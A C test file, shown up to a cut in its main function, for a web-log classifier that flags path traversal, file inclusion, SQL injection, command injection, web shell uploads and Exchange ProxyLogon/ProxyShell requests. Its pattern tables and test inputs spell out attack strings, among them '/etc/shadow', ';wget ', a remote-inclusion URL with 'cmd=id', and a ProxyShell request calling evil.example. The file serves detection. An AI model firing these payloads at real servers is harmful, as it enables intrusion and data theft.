/* test_detect.c - the stateless request and SQL classifiers. */
#include "config.h"
#include "tap.h"
#include "src/engine/detect.h"

#include <ctype.h>

static bs_str S(const char *s) { return bs_str_make(s, strlen(s)); }

/* The request classifiers as they were before their speed-ups (the
 * exploit patterns with one memmem each, as before the one-pass index):
 * the classifiers must give the same answers on any input. */
static int hexval(int c)
{
	if (c >= '0' && c <= '9') return c - '0';
	if (c >= 'a' && c <= 'f') return c - 'a' + 10;
	if (c >= 'A' && c <= 'F') return c - 'A' + 10;
	return -1;
}

/* Percent-decode (and '+' to space) into out, lower-casing: the patterns
 * below are matched on the decoded, lower-cased text. */
static size_t decode_lower(const char *p, size_t n, char *out, size_t outsize)
{
	size_t o = 0;
	for (size_t i = 0; i < n && o + 1 < outsize; i++) {
		int c = (unsigned char)p[i];
		if (c == '%' && i + 2 < n && hexval(p[i + 1]) >= 0 && hexval(p[i + 2]) >= 0) {
			c = hexval(p[i + 1]) * 16 + hexval(p[i + 2]);
			i += 2;
		} else if (c == '+') {
			c = ' ';
		}
		out[o++] = (char)tolower(c);
	}
	out[o] = 0;
	return o;
}

#define DECODE_MAX 4096

static size_t decode_twice(bs_str s, char *buf)
{
	char tmp[DECODE_MAX];
	size_t n = decode_lower(s.p, s.n, tmp, sizeof tmp);
	return decode_lower(tmp, n, buf, DECODE_MAX);
}

/* Borrowed strings may be {NULL, 0}: the classifiers see them as "". */
static bs_str nonnull(bs_str s)
{
	return s.p ? s : bs_str_make("", 0);
}

static bool ref_script_path(bs_str path);

static bs_str ref_uri_path(bs_str uri)
{
	uri = nonnull(uri);
	const char *p = uri.p, *end = uri.p + uri.n;
	/* absolute-form request target: skip scheme://host */
	const char *scheme = uri.n > 8 ? bs_memmem_ci(p, uri.n < 16 ? uri.n : 16, "://", 3) : NULL;
	if (scheme) {
		const char *slash = memchr(scheme + 3, '/', (size_t)(end - scheme - 3));
		p = slash ? slash : end;
	}
	const char *q = memchr(p, '?', (size_t)(end - p));
	const char *h = memchr(p, '#', (size_t)(end - p));
	if (h && (!q || h < q))
		q = h;
	return bs_str_make(p, (size_t)((q ? q : end) - p));
}

/* The request patterns, lower-case, matched on the twice-decoded,
 * lower-cased URI. */
static const struct exploit_pat {
	const char *s;
	unsigned kind;
} exploit_pats[] = {
	{ "../", BS_EXPLOIT_TRAVERSAL }, { "..\\", BS_EXPLOIT_TRAVERSAL }, { "/etc/passwd", BS_EXPLOIT_TRAVERSAL },
	{ "/etc/shadow", BS_EXPLOIT_TRAVERSAL }, { "/proc/self/environ", BS_EXPLOIT_TRAVERSAL },
	{ "c:\\windows", BS_EXPLOIT_TRAVERSAL },
	/* inclusion: a parameter whose value is a URL or a PHP wrapper */
	{ "=http://", BS_EXPLOIT_INCLUSION }, { "=https://", BS_EXPLOIT_INCLUSION }, { "=ftp://", BS_EXPLOIT_INCLUSION },
	{ "=php://", BS_EXPLOIT_INCLUSION }, { "=data:", BS_EXPLOIT_INCLUSION }, { "=expect://", BS_EXPLOIT_INCLUSION },
	{ "=file://", BS_EXPLOIT_INCLUSION }, { "=zip://", BS_EXPLOIT_INCLUSION }, { "=phar://", BS_EXPLOIT_INCLUSION },
	{ "<?php", BS_EXPLOIT_CODE }, { "<?=", BS_EXPLOIT_CODE }, { "system(", BS_EXPLOIT_CODE }, { "exec(", BS_EXPLOIT_CODE },
	{ "passthru(", BS_EXPLOIT_CODE }, { "shell_exec(", BS_EXPLOIT_CODE }, { "eval(", BS_EXPLOIT_CODE },
	{ "base64_decode(", BS_EXPLOIT_CODE }, { "assert(", BS_EXPLOIT_CODE }, { "popen(", BS_EXPLOIT_CODE },
	{ "proc_open(", BS_EXPLOIT_CODE }, { ";wget ", BS_EXPLOIT_CODE }, { ";curl ", BS_EXPLOIT_CODE },
	{ "|wget ", BS_EXPLOIT_CODE }, { "|curl ", BS_EXPLOIT_CODE }, { ";id;", BS_EXPLOIT_CODE }, { "|id", BS_EXPLOIT_CODE },
	{ "$(", BS_EXPLOIT_CODE }, { "`id`", BS_EXPLOIT_CODE }, { "${jndi:", BS_EXPLOIT_CODE }, { "<script", BS_EXPLOIT_CODE },
	{ "javascript:", BS_EXPLOIT_CODE }, { "() { :; };", BS_EXPLOIT_CODE }, { "/bin/sh", BS_EXPLOIT_CODE },
	{ "/bin/bash", BS_EXPLOIT_CODE }, { "cmd.exe", BS_EXPLOIT_CODE }, { "allow_url_include", BS_EXPLOIT_CODE },
	{ "' or '1'='1", BS_EXPLOIT_SQLI }, { "' or 1=1", BS_EXPLOIT_SQLI }, { "\" or 1=1", BS_EXPLOIT_SQLI },
	{ " or 1=1--", BS_EXPLOIT_SQLI }, { "union select", BS_EXPLOIT_SQLI }, { "union all select", BS_EXPLOIT_SQLI },
	{ "information_schema", BS_EXPLOIT_SQLI }, { "sleep(", BS_EXPLOIT_SQLI }, { "benchmark(", BS_EXPLOIT_SQLI },
	{ "' and 1=1", BS_EXPLOIT_SQLI }, { "'--", BS_EXPLOIT_SQLI }, { "';--", BS_EXPLOIT_SQLI },
	{ "waitfor delay", BS_EXPLOIT_SQLI }, { "extractvalue(", BS_EXPLOIT_SQLI }, { "updatexml(", BS_EXPLOIT_SQLI },
	{ "load_file(", BS_EXPLOIT_SQLI }, { "into outfile", BS_EXPLOIT_SQLI },
	/* ProxyShell (CVE-2021-34473): the Autodiscover front end proxies to the
	 * path after an "@" in the URL, "/autodiscover/autodiscover.json?@x/mapi/nspi"
	 * or "...&Email=autodiscover/autodiscover.json%3F@x" */
	{ "autodiscover.json?@", BS_EXPLOIT_SSRF }, { "autodiscover.json@", BS_EXPLOIT_SSRF },
	/* CVE-2021-27065 (after ProxyLogon): ECP's OAB virtual directory reset
	 * writes an .aspx web shell to a path the attacker chose */
	{ "schema=resetoabvirtualdirectory", BS_EXPLOIT_UPLOAD },
};
#define NEXPLOIT_PATS (sizeof exploit_pats / sizeof *exploit_pats)

static bool has_prefix_ci(bs_str s, const char *lit)
{
	return bs_str_istarts(s, lit);
}

/* Exchange 2010-2019's own pages in /owa/auth/ */
static bool owa_stock_page(bs_str page)
{
	static const char *const stock[] = { "logon.aspx", "logoff.aspx", "errorfe.aspx", "error.aspx",
	                                     "expiredpassword.aspx", "frowny.aspx", "timeoutlogout.aspx",
	                                     "redirsuiteserviceproxy.aspx", "outlookcn.aspx", "signout.aspx",
	                                     "getidtoken.aspx" };
	for (size_t i = 0; i < sizeof stock / sizeof *stock; i++)
		if (bs_str_ieq(page, stock[i]))
			return true;
	return false;
}

/* exchange_exploit's answer that the inclusion patterns matched nothing */
#define NOT_INCLUSION (1u << 31)

/* ProxyLogon (CVE-2021-26855): the X-BEResource cookie makes the front end
 * proxy a request for a static file of one to three characters, "/ecp/y.js",
 * "/ecp/x.js", "/owa/auth/x.js" (the cookie is not logged: the path is what
 * an IIS log keeps). An .aspx named in the query of an ECP request is a file
 * written through ECP (the web shell drops of 2021). decoded: the URI
 * decoded and lower-cased. */
static unsigned exchange_exploit(bs_str uri, const char *decoded, size_t n)
{
	bs_str path = ref_uri_path(uri);
	unsigned k = 0;
	bs_str name = BS_STR_NULL;
	if (has_prefix_ci(path, "/ecp/"))
		name = bs_str_make(path.p + 5, path.n - 5);
	else if (has_prefix_ci(path, "/owa/auth/"))
		name = bs_str_make(path.p + 10, path.n - 10);
	if (name.n >= 4 && name.n <= 6 && !memchr(name.p, '/', name.n) && bs_str_ieq(bs_str_make(name.p + name.n - 3, 3), ".js"))
		k |= BS_EXPLOIT_SSRF;
	/* OWA's logon page carries where to go after the login as a full URL,
	 * "logon.aspx?url=https://mail.../owa/": no inclusion */
	if (has_prefix_ci(path, "/owa/auth/") && owa_stock_page(bs_str_make(path.p + 10, path.n - 10)))
		k |= NOT_INCLUSION;
	const char *q = memchr(decoded, '?', n);
	if (has_prefix_ci(path, "/ecp/") && q && bs_memmem_ci(q, (size_t)(decoded + n - q), ".aspx", 5))
		k |= BS_EXPLOIT_UPLOAD;
	return k;
}

static unsigned ref_exploit(bs_str uri, bs_str upload_filename)
{
	uri = nonnull(uri);
	upload_filename = nonnull(upload_filename);
	char d[DECODE_MAX];
	size_t n = decode_twice(uri, d);
	unsigned k = 0;
	for (size_t i = 0; i < NEXPLOIT_PATS; i++)
		if (memmem(d, n, exploit_pats[i].s, strlen(exploit_pats[i].s)))
			k |= exploit_pats[i].kind;
	if (upload_filename.n && ref_script_path(upload_filename))
		k |= BS_EXPLOIT_UPLOAD;
	unsigned ex = exchange_exploit(uri, d, n);
	if (ex & NOT_INCLUSION)
		k &= ~(unsigned)BS_EXPLOIT_INCLUSION;
	return k | (ex & ~NOT_INCLUSION);
}
static bool ref_script_path(bs_str path)
{
	path = nonnull(path);
	static const char *const ext[] = { ".php", ".phtml", ".php3", ".php4", ".php5", ".php7", ".phar",
	                                   ".pl", ".cgi", ".asp", ".aspx", ".jsp", ".jspx", ".sh", ".py" };
	/* every extension has one dot, its first byte: "ends with it" is "the
	 * part from the last dot is it" (one comparison per extension, on a
	 * few bytes, instead of a search each) */
	const char *dot = path.n ? memrchr(path.p, '.', path.n) : NULL;
	if (!dot)
		return false;
	bs_str tail = bs_str_make(dot, (size_t)(path.p + path.n - dot));
	for (size_t i = 0; i < sizeof ext / sizeof *ext; i++)
		if (bs_str_ieq(tail, ext[i]))
			return true;
	return false;
}

static bool ref_shell_dir(bs_str path)
{
	path = nonnull(path);
	static const char *const ext[] = { ".aspx", ".ashx", ".asmx", ".asp" };
	const char *dot = path.n ? memrchr(path.p, '.', path.n) : NULL;
	if (!dot)
		return false;
	bs_str tail = bs_str_make(dot, (size_t)(path.p + path.n - dot));
	bool aspnet = false;
	for (size_t i = 0; i < sizeof ext / sizeof *ext; i++)
		aspnet = aspnet || bs_str_ieq(tail, ext[i]);
	if (!aspnet)
		return false;
	/* /aspnet_client/ holds the .NET framework's client scripts: no page */
	if (has_prefix_ci(path, "/aspnet_client/"))
		return true;
	if (!has_prefix_ci(path, "/owa/auth/"))
		return false;
	return !owa_stock_page(bs_str_make(path.p + 10, path.n - 10));
}

static bool ref_cmdlike(bs_str uri)
{
	uri = nonnull(uri);
	const char *q = memchr(uri.p, '?', uri.n);
	if (!q)
		return false;
	bs_str query = bs_str_make(q + 1, (size_t)(uri.p + uri.n - q - 1));
	char d[DECODE_MAX];
	size_t n = decode_twice(query, d);
	/* parameter names that web shells use */
	static const char *const names[] = { "cmd=", "command=", "exec=", "execute=", "shell=", "run=" };
	/* values that are shell commands */
	static const char *const cmds[] = { "id", "whoami", "uname", "ls ", "ls -", "cat ", "pwd", "wget ",
	                                    "curl ", "mysql ", "mysqldump", "nc ", "ps ", "netstat",
	                                    "ifconfig", "chmod ", "echo ", "tar ", "find /", "rm -", "perl -e",
	                                    "python -c", "bash -", "sh -c", "/bin/", "/tmp/", "ftp " };
	for (size_t i = 0; i < n;) {
		/* one parameter: [name=]value */
		size_t j = i;
		while (j < n && d[j] != '&')
			j++;
		const char *eq = memchr(d + i, '=', j - i);
		if (eq) {
			size_t namelen = (size_t)(eq - (d + i)) + 1;
			const char *val = eq + 1;
			size_t vlen = (size_t)(d + j - val);
			bool shell_name = false;
			for (size_t k = 0; k < sizeof names / sizeof *names; k++)
				if (namelen == strlen(names[k]) && memcmp(d + i, names[k], namelen) == 0)
					shell_name = true;
			for (size_t k = 0; k < sizeof cmds / sizeof *cmds; k++) {
				size_t cl = strlen(cmds[k]);
				if (vlen >= cl && memcmp(val, cmds[k], cl) == 0 &&
				    (vlen == cl || cmds[k][cl - 1] == ' ' || cmds[k][cl - 1] == '-' ||
				     cmds[k][cl - 1] == '/' || val[cl] == ' ' || val[cl] == ';'))
					return true;
			}
			if (shell_name && vlen > 0)
				return true;
		}
		i = j + 1;
	}
	return false;
}


/* URIs made of pieces of the patterns, their encodings and cases, the
 * Exchange paths, separators and stray escapes. */
static const char *const uri_parts[] = {
	"../", "..\\", "/etc/passwd", "/proc/self/environ", "c:\\windows", "=http://", "=PHP://", "=data:", "=expect://",
	"<?php", "<?=", "system(", "eVaL(", "base64_decode(", ";wget ", "|id", "$(", "`id`", "${jndi:", "<SCRIPT",
	"() { :; };", "/bin/sh", "cmd.exe", "' or '1'='1", "\" or 1=1", " or 1=1--", "union select", "union all select",
	"information_schema", "sleep(", "'--", "';--", "waitfor delay", "into outfile", "autodiscover.json?@",
	"autodiscover.json@", "schema=resetoabvirtualdirectory", "Schema=ResetOABVirtualDirectory",
	"%2e", "%2E", "%252e", "%2f", "%252f", "%3f", "%253F", "%40", "%25", "%2b", "%252b", "%", "%2", "%g1", "%%",
	"+", "?", "#", "&", "=", "/", "\\", ".", ":", "a", "A", "x", "1", " ", "\x80", "\xff", "\0",
	"/ecp/", "/ECP/", "/owa/auth/", "/OWA/Auth/", "/aspnet_client/", "logon.aspx", "errorfe.aspx", "y.js", ".JS",
	".aspx", ".ashx", ".asmx", ".asp", ".php", ".PHTML", ".sh", ".py", ".phpx", "http://", "https://h.example",
	"://", "cmd=", "CMD=", "exec=", "execute=", "shell=", "run=", "c=", "id", "whoami", "uname", "ls ", "ls -",
	"cat ", "pwd", "wget ", "mysqldump", "nc ", "netstat", "find /", "rm -", "perl -e", "python -c", "sh -c",
	"/bin/", "/tmp/", "ftp ", ";", "identity",
};

static uint32_t rnd_state = 2024;

static uint32_t rnd(uint32_t n)
{
	rnd_state = rnd_state * 1103515245u + 12345u;
	return (rnd_state >> 8) % n;
}

static size_t random_uri(char *buf, size_t size)
{
	size_t n = 0;
	for (uint32_t i = 0, parts = rnd(10); i < parts; i++) {
		uint32_t which = rnd(sizeof uri_parts / sizeof *uri_parts);
		const char *pt = uri_parts[which];
		size_t len = pt[0] ? strlen(pt) : 1; /* "\0": a NUL byte */
		if (n + len > size)
			break;
		memcpy(buf + n, pt, len);
		n += len;
	}
	return n;
}

static int classifiers_differ(bs_str u, bs_str up)
{
	bs_str pa = bs_uri_path(u), pb = ref_uri_path(u);
	return bs_detect_exploit(u, up) != ref_exploit(u, up) || bs_detect_cmdlike(u) != ref_cmdlike(u) ||
	       pa.p != pb.p || pa.n != pb.n || bs_detect_shell_dir(u) != ref_shell_dir(u) ||
	       bs_detect_script_path(u) != ref_script_path(u) || bs_detect_shell_dir(pb) != ref_shell_dir(pb) ||
	       bs_detect_script_path(pb) != ref_script_path(pb);
}

static void test_classifiers_as_before(void)
{
	static char buf[3 * DECODE_MAX];
	int bad = 0, hits = 0;
	for (int round = 0; round < 200000; round++) {
		size_t n = random_uri(buf, 200);
		bs_str u = bs_str_make(buf, n), up = rnd(8) ? BS_STR_NULL : bs_str_make(buf + n / 2, n - n / 2);
		hits += ref_exploit(u, up) != 0;
		if (classifiers_differ(u, up) && bad++ < 5)
			printf("# differs: round %d, %zu bytes\n", round, n);
	}
	/* past the decoding buffer: the decoded text is cut at DECODE_MAX - 1 */
	for (int round = 0; round < 300; round++) {
		size_t n = DECODE_MAX - 300 + (size_t)rnd(400);
		for (size_t i = 0; i < n; i++)
			buf[i] = "a%2e5/.?=&+"[rnd(11)];
		size_t tail = random_uri(buf + n, 60);
		if (classifiers_differ(bs_str_make(buf, n + tail), BS_STR_NULL) && bad++ < 5)
			printf("# differs: a long uri, round %d\n", round);
	}
	is_int(bad, 0, "request classifiers: as before on 200,000 random and 300 long URIs");
	ok(hits > 20000, "request classifiers: enough exploits among them (%d)", hits);
}

/* The SQL classifiers as they were before their speed-ups (the
 * unfiltered-read scan trying its three words at every byte; the address
 * book names with one case-insensitive search each). */
static size_t ref_skip_literal(const char *s, size_t n, size_t i)
{
	char q = s[i++];
	while (i < n) {
		if (s[i] == '\\') {
			i += 2;
			continue;
		}
		if (s[i] == q) {
			if (i + 1 < n && s[i + 1] == q) {
				i += 2;
				continue;
			}
			return i + 1;
		}
		i++;
	}
	return n;
}

static bool ref_word_at(const char *s, size_t n, size_t i, const char *w)
{
	size_t l = strlen(w);
	if (i + l > n || !bs_str_ieq(bs_str_make(s + i, l), w))
		return false;
	bool left = i == 0 || !(isalnum((unsigned char)s[i - 1]) || s[i - 1] == '_');
	bool right = i + l == n || !(isalnum((unsigned char)s[i + l]) || s[i + l] == '_');
	return left && right;
}

static size_t ref_skip_space(const char *s, size_t n, size_t i)
{
	while (i < n && (isspace((unsigned char)s[i]) || s[i] == '('))
		i++;
	if (i + 1 < n && s[i] == '/' && s[i + 1] == '*') {
		const char *e = bs_memmem_ci(s + i + 2, n - i - 2, "*/", 2);
		return e ? ref_skip_space(s, n, (size_t)(e - s) + 2) : n;
	}
	return i;
}

static bool ref_sql_unfiltered(bs_str sql)
{
	if (!bs_detect_sql_is_read(sql))
		return false;
	const char *s = sql.p;
	size_t n = sql.n;
	bool from = false;
	for (size_t i = 0; i < n; i++) {
		if (s[i] == '\'' || s[i] == '"') {
			i = ref_skip_literal(s, n, i) - 1;
			continue;
		}
		if (ref_word_at(s, n, i, "from"))
			from = true;
		if (!ref_word_at(s, n, i, "where") && !ref_word_at(s, n, i, "limit"))
			continue;
		if (ref_word_at(s, n, i, "limit")) {
			size_t j = ref_skip_space(s, n, i + 5);
			if (j < n && s[j] == '1' && (j + 1 == n || !isdigit((unsigned char)s[j + 1])))
				return false;
			continue;
		}
		for (size_t j = i + 5; j < n; j++) {
			if (s[j] == '=' && j > 0 && s[j - 1] != '!' && s[j - 1] != '<' && s[j - 1] != '>') {
				size_t l = j;
				while (l > 0 && isspace((unsigned char)s[l - 1]))
					l--;
				if (l > 0 && (isdigit((unsigned char)s[l - 1]) || s[l - 1] == '\'' || s[l - 1] == '"')) {
					size_t w = l;
					while (w > 0 && (isalnum((unsigned char)s[w - 1]) || s[w - 1] == '_'))
						w--;
					if (w == l || isdigit((unsigned char)s[w]) || s[l - 1] == '\'' || s[l - 1] == '"')
						continue;
				}
				size_t k = ref_skip_space(s, n, j + 1);
				if (k < n && (s[k] == '\'' || s[k] == '"' || s[k] == '?' || isdigit((unsigned char)s[k]) ||
				              s[k] == ':' || s[k] == '@'))
					return false;
			}
			if (s[j] == '\'' || s[j] == '"')
				j = ref_skip_literal(s, n, j) - 1;
		}
		return true;
	}
	return from;
}

static bool ref_sql_addressbook(bs_str sql)
{
	static const char *const tables[] = { "abook", "addressbook", "address_book", "contacts",
	                                      "turba_objects", "userprefs_abook", "contactgroup" };
	for (size_t i = 0; i < sizeof tables / sizeof *tables; i++)
		if (bs_memmem_ci(sql.p, sql.n, tables[i], strlen(tables[i])))
			return true;
	return false;
}

static void test_sql_as_before(void)
{
	static const char *const pieces[] = { "SELECT ", "select ", "SeLeCt ", "show ", "WITH x AS ", "FROM ", "from",
		" from ", "WHERE ", "where", " LIMIT 1", " limit 10", "limit 1", " ", "(", ")", "'a''b'", "\"x\"",
		"'it\\'s'", "=", "!=", "<=", "1=1", "'a'='a'", "?", ":p", "@v", "42", "id", "_", "`", ",", "*",
		"abook", "AddressBook", "address_book", "CONTACTS", "contactgroup", "turba_objects", "userprefs_abook",
		"Abook_old", "abooks", "contact", "addressbooks", "fromage", "wherever", "limits", "/* c */", "-- x\n",
		"\xc1", "\xd4", "\xe3" };
	static char buf[4096];
	int bad = 0, unf = 0, ab = 0;
	for (int round = 0; round < 200000; round++) {
		size_t n = 0, k = 1 + rnd(14);
		for (size_t i = 0; i < k; i++) {
			const char *p = pieces[rnd(sizeof pieces / sizeof *pieces)];
			size_t l = strlen(p);
			if (n + l >= sizeof buf)
				break;
			memcpy(buf + n, p, l);
			n += l;
		}
		if (rnd(4) == 0 && n)
			n -= rnd((uint32_t)n); /* cut anywhere, even inside a word or a literal */
		bs_str q = bs_str_make(buf, n);
		bool u = bs_detect_sql_unfiltered(q), a = bs_detect_sql_addressbook(q);
		unf += u;
		ab += a;
		if ((u != ref_sql_unfiltered(q) || a != ref_sql_addressbook(q)) && bad++ < 5)
			printf("# differs: \"%.*s\"\n", (int)n, buf);
	}
	is_int(bad, 0, "SQL classifiers: as before on 200,000 random statements");
	ok(unf > 2000 && ab > 10000, "SQL classifiers: enough of each among them (%d unfiltered, %d address book)", unf, ab);
}

/* A login's outcome from its status and, in a capture, the redirect's
 * target: webmail applications that send a bad login back to the login
 * page by a redirect say why in its query. */
static void test_web_login_outcome(void)
{
	static const struct { int status; const char *location; bool success; bool json; const char *cookie; enum bs_login_answer answer; bool basic; } cases[] = {
		{ 302, NULL, true, false, NULL, BS_LOGIN_ANSWER_NONE, false },                                       /* an access log: no Location */
		{ 302, "/mail/showmail.php", true, false, NULL, BS_LOGIN_ANSWER_NONE, false },                       /* @Mail */
		{ 302, "./?_task=mail&_mbox=INBOX", true, false, NULL, BS_LOGIN_ANSWER_NONE, false },                /* Roundcube */
		{ 302, "https://mail.example.net/owa/", true, false, NULL, BS_LOGIN_ANSWER_NONE, false },            /* OWA, good */
		{ 302, "/owa/auth/logon.aspx?replaceCurrent=1&reason=2&url=https%3a%2f%2fmail.example.net%2fowa%2f", false, false, NULL, BS_LOGIN_ANSWER_NONE, false },
		{ 302, "https://mail.example.net/owa/auth/logon.aspx?replaceCurrent=1&reason=2", false, false, NULL, BS_LOGIN_ANSWER_NONE, false },
		{ 302, "/owa/auth/logon.aspx?url=https://mail.example.net/owa/&reason=0", true, false, NULL, BS_LOGIN_ANSWER_NONE, false }, /* 0: no failure */
		{ 302, "/login.php?logout_reason=failed", false, false, NULL, BS_LOGIN_ANSWER_NONE, false },        /* Horde */
		{ 302, "/login?error=1", false, false, NULL, BS_LOGIN_ANSWER_NONE, false },
		{ 303, "/webmail/login/?login_failed=1", false, false, NULL, BS_LOGIN_ANSWER_NONE, false },
		{ 302, "https://terror-mail.example/inbox", true, false, NULL, BS_LOGIN_ANSWER_NONE, false },        /* the host is not read */
		{ 302, "https://mail.failsafe.example", true, false, NULL, BS_LOGIN_ANSWER_NONE, false },
		{ 302, "/index.php?reason=", true, false, NULL, BS_LOGIN_ANSWER_NONE, false },                       /* an empty reason says nothing */
		{ 200, "/mail/showmail.php", false, false, NULL, BS_LOGIN_ANSWER_NONE, false },                      /* the form again */
		{ 401, NULL, false, false, NULL, BS_LOGIN_ANSWER_NONE, false },                                      /* Roundcube's failure */
		{ 200, NULL, true, true, "0xHIGHFLYxSOGo=basic%20abc", BS_LOGIN_ANSWER_NONE, false },   /* SOGo, JSON: good */
		{ 403, NULL, false, true, NULL, BS_LOGIN_ANSWER_NONE, false },                          /* SOGo: bad */
		{ 200, NULL, false, true, NULL, BS_LOGIN_ANSWER_NONE, false },                          /* JSON, 200 without a session: bad */
		{ 200, NULL, false, false, "PHPSESSID=1", BS_LOGIN_ANSWER_NONE, false },                /* a form again, with a cookie: bad */
		{ 302, "/SOGo/so/alice/", true, true, NULL, BS_LOGIN_ANSWER_NONE, false },              /* JSON answered by a redirect */
		{ 200, NULL, true, false, NULL, BS_LOGIN_ANSWER_SUCCESS, false }, /* SnappyMail: a form, {"Result":true} */
		{ 200, NULL, false, false, NULL, BS_LOGIN_ANSWER_FAILURE, false },/* ... {"Result":false} */
		{ 200, NULL, false, true, "TINE20SESSID=1", BS_LOGIN_ANSWER_FAILURE, false }, /* Tine: a cookie, but it said no */
		{ 302, "/mail/", true, false, NULL, BS_LOGIN_ANSWER_FAILURE, false },   /* an answer only counts for 2xx */
		{ 200, NULL, true, false, NULL, BS_LOGIN_ANSWER_NONE, true },    /* Basic: the resource */
		{ 401, NULL, false, false, NULL, BS_LOGIN_ANSWER_NONE, true },   /* Basic: refused */
	};
	size_t bad = 0;
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		bs_str loc = cases[i].location ? S(cases[i].location) : BS_STR_NULL;
		if (bs_detect_web_login_success(cases[i].status, loc, cases[i].json, cases[i].cookie ? S(cases[i].cookie) : BS_STR_NULL, cases[i].answer, cases[i].basic) != cases[i].success) {
			printf("# %d %s: not %s\n", cases[i].status, cases[i].location ? cases[i].location : "-",
			       cases[i].success ? "a success" : "a failure");
			bad++;
		}
	}
	is_int(bad, 0, "a web login's outcome from its status and redirect target");
}

int main(void)
{
	test_web_login_outcome();
	/* an old or backup copy of a table does not stand for the live one */
	ok(bs_detect_sql_table_is_copy(S("SELECT Account, Email FROM Abook_old")), "Abook_old is a copy");
	ok(bs_detect_sql_table_is_copy(S("select * from `atmail`.`users_bak`")), "users_bak is a copy");
	ok(bs_detect_sql_table_is_copy(S("SELECT * FROM contacts_2006")), "a dated table is a copy");
	ok(bs_detect_sql_table_is_copy(S("SELECT * FROM archive_users WHERE 1")), "archive_users is a copy");
	ok(!bs_detect_sql_table_is_copy(S("SELECT Account, Email FROM Abook")), "Abook is live");
	ok(!bs_detect_sql_table_is_copy(S("SELECT * FROM folders")), "\"folders\" holds \"old\" only inside a word");
	ok(!bs_detect_sql_table_is_copy(S("SELECT * FROM Users WHERE id=2007")), "digits after WHERE are not the table's");
	/* exploit requests: positives */
	ok(bs_detect_exploit(S("/mail/index.php?lang=../../../../etc/passwd"), BS_STR_NULL) & BS_EXPLOIT_TRAVERSAL, "traversal");
	ok(bs_detect_exploit(S("/mail/index.php?lang=%2e%2e%2f%2e%2e%2fetc%2fpasswd"), BS_STR_NULL) & BS_EXPLOIT_TRAVERSAL, "encoded traversal");
	ok(bs_detect_exploit(S("/a?x=%252e%252e%252fetc"), BS_STR_NULL) & BS_EXPLOIT_TRAVERSAL, "double-encoded traversal");
	ok(bs_detect_exploit(S("/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id"), BS_STR_NULL) & BS_EXPLOIT_INCLUSION, "remote file inclusion");
	ok(bs_detect_exploit(S("/index.php?page=php://filter/convert.base64-encode/resource=config"), BS_STR_NULL) & BS_EXPLOIT_INCLUSION, "php wrapper");
	ok(bs_detect_exploit(S("/login.php?user=admin'%20OR%201=1--"), BS_STR_NULL) & BS_EXPLOIT_SQLI, "sqli or 1=1");
	ok(bs_detect_exploit(S("/item?id=1+UNION+SELECT+password+FROM+users"), BS_STR_NULL) & BS_EXPLOIT_SQLI, "union select");
	ok(bs_detect_exploit(S("/x.php?a=<?php system($_GET[c]); ?>"), BS_STR_NULL) & BS_EXPLOIT_CODE, "php code injection");
	ok(bs_detect_exploit(S("/cgi-bin/test?q=;wget http://x/y"), BS_STR_NULL) & BS_EXPLOIT_CODE, "command injection");
	ok(bs_detect_exploit(S("/mail/compose.php"), S("shell.php")) & BS_EXPLOIT_UPLOAD, "script upload");
	ok(bs_detect_exploit(S("/mail/compose.php"), S("IMG.PHTML")) & BS_EXPLOIT_UPLOAD, "script upload, upper case");
	/* Exchange: ProxyShell, ProxyLogon, the ECP web shell drop */
	ok(bs_detect_exploit(S("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyShell autodiscover.json?@");
	ok(bs_detect_exploit(S("/autodiscover/autodiscover.json?a=x&Email=autodiscover/autodiscover.json%253F@evil.example&Protocol=Powershell"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyShell, double-encoded");
	ok(bs_detect_exploit(S("/ecp/y.js"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyLogon /ecp/y.js");
	ok(bs_detect_exploit(S("/owa/auth/x.js"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyLogon /owa/auth/x.js");
	ok(bs_detect_exploit(S("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=abc"), BS_STR_NULL) & BS_EXPLOIT_UPLOAD, "ECP OAB reset");
	ok(bs_detect_exploit(S("/ecp/x.ashx?path=%5C%5C127.0.0.1%5Cc$%5Cinetpub%5Cwwwroot%5Caspnet_client%5Cshell.aspx"), BS_STR_NULL) & BS_EXPLOIT_UPLOAD, ".aspx named through ECP");
	is_str(bs_exploit_kind_name(BS_EXPLOIT_SSRF), "server-side request forgery", "SSRF kind name");
	is_int(bs_detect_exploit(S("/autodiscover/autodiscover.xml"), BS_STR_NULL), 0, "plain autodiscover");
	is_int(bs_detect_exploit(S("/ecp/default.aspx"), BS_STR_NULL), 0, "ECP home");
	is_int(bs_detect_exploit(S("/owa/auth/15.2.1118/scripts/premium/owa.js"), BS_STR_NULL), 0, "OWA's own scripts");
	is_int(bs_detect_exploit(S("/owa/auth/logon.aspx?url=https%3a%2f%2fmail%2fowa%2f&reason=0"), BS_STR_NULL), 0, "OWA logon page");
	/* web shell directories of Exchange */
	ok(bs_detect_shell_dir(S("/aspnet_client/system_web/x1.aspx")), "script in /aspnet_client/");
	ok(bs_detect_shell_dir(S("/aspnet_client/discover.ASHX")), ".ashx in /aspnet_client/");
	ok(bs_detect_shell_dir(S("/owa/auth/errorEE.aspx")), "errorEE.aspx in /owa/auth/");
	ok(bs_detect_shell_dir(S("/owa/auth/Current/themes/resources/x.asmx")), ".asmx under /owa/auth/");
	ok(!bs_detect_shell_dir(S("/owa/auth/logon.aspx")), "OWA's logon page");
	ok(!bs_detect_shell_dir(S("/owa/auth/errorFE.aspx")), "OWA's error page");
	ok(!bs_detect_shell_dir(S("/aspnet_client/system_web/4_0_30319/WebUIValidation.js")), "a client script");
	ok(!bs_detect_shell_dir(S("/EWS/Exchange.asmx")), "EWS");
	ok(!bs_detect_shell_dir(S("/owa/")), "OWA");
	/* negatives */
	is_int(bs_detect_exploit(S("/mail/showmail.php?Folder=Inbox"), BS_STR_NULL), 0, "normal page");
	is_int(bs_detect_exploit(S("/mail/reademail.php?id=123&Folder=Sent%20Items"), BS_STR_NULL), 0, "normal page with encoding");
	is_int(bs_detect_exploit(S("/mail/compose.php"), S("holiday.jpg")), 0, "picture upload");
	is_int(bs_detect_exploit(S("/mail/login.php?url=%2Fmail%2Fshowmail.php"), BS_STR_NULL), 0, "redirect parameter");
